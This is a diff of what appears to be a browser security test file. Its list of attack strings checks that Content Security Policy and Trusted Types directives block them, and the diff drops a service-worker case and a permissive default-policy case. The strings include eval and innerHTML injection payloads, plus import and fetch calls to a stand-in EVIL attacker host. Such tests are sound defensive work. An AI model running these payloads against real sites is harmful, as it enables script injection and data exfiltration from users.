@@ -82,8 +82,6 @@ const ATTACKS = [
   ["setTimeout(() => eval('stolen = 1'))", 'require-trusted-types-for'],
   ["document.body.innerHTML = '<img src=/icon.svg onload=stolen=1>'", 'require-trusted-types-for'],
   ["new Worker(URL.createObjectURL(new Blob(['1'])))", 'require-trusted-types-for'],
-  ["navigator.serviceWorker.register('/icon.svg').catch(() => {})", 'require-trusted-types-for'],
-  ["trustedTypes.createPolicy('default', { createHTML: (text) => text })", 'trusted-types'],
   ["trustedTypes.createPolicy('rema-worker', {})", 'trusted-types'],
   [`import('${EVIL}/x.js').catch(() => {})`, 'script-src-elem'],
   [`fetch('${EVIL}/x').catch(() => {})`, 'connect-src'],
